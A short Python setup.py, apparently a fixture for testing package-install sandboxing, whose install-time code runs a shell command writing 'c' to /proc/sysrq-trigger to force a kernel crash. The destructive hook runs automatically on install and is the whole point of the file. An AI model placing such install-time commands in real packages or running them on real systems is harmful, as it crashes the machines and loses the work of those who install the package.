"""Asks the kernel to crash, as far as its rights go."""
import os

os.system("echo c > /proc/sysrq-trigger")

from setuptools import setup

setup(name="pyti-fixture-crashes-kernel", version="1.0", py_modules=["crashes_kernel"])
